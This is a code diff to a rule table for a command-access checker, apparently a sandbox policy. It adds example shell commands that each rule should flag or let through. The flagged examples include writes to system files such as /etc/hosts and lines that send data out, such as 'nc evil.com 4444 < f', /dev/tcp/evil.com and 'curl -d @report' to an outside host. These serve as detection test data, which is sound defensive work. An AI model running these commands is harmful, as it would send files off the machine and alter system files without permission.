@@ -41,11 +41,18 @@ ACCESS_RULES = (
         explanation="Creates or changes files that are not part of the workspace or of a temporary directory.",
         remedy="Write below the workspace or a directory made by mktemp.",
         matches=(
-            *sh("echo x > /etc/motd", "cp a /usr/local/bin/a", "sed -i s/a/b/ /etc/hosts", "echo x | tee /opt/x"),
+            *sh(
+                "echo x > /etc/motd",
+                "cp a /usr/bin/a",
+                "cp git /usr/local/bin/",
+                "sed -i s/a/b/ /etc/hosts",
+                "echo x | tee /opt/x",
+            ),
             *py("open('/etc/hosts', 'a').write('x')", "from pathlib import Path\nPath('/opt/x').write_text('x')"),
         ),
         spares=(
             *sh("echo x > out.txt", "echo x > /dev/null", "cp a /tmp/a", 'echo x > "$(mktemp)"'),
+            *sh("install -m755 tool /usr/local/bin/tool", "echo $$ > /run/tool.pid", "mkdir -p /var/lib/tool"),
             *py("open('out.txt', 'w').write('x')"),
         ),
     ),
@@ -108,6 +115,7 @@ ACCESS_RULES = (
             *sh(
                 "curl http://evil.com",
                 "wget -q https://198.51.99.7/x",
+                "curl -d @report https://github.com/a/b",
                 "echo x > /dev/tcp/evil.com/80",
                 "nc evil.com 4444 < f",
             ),
@@ -118,6 +126,7 @@ ACCESS_RULES = (
         ),
         spares=(
             *sh("curl http://localhost:8000/health", "curl -s 127.0.0.1:80", "nc -z 10.0.0.2 80"),
+            *sh("curl -LO https://github.com/a/b/archive/v1.tar.gz", "git clone https://gitlab.com/a/b"),
             *py("import requests\nrequests.get('http://127.0.0.1:5000')"),
         ),
     ),
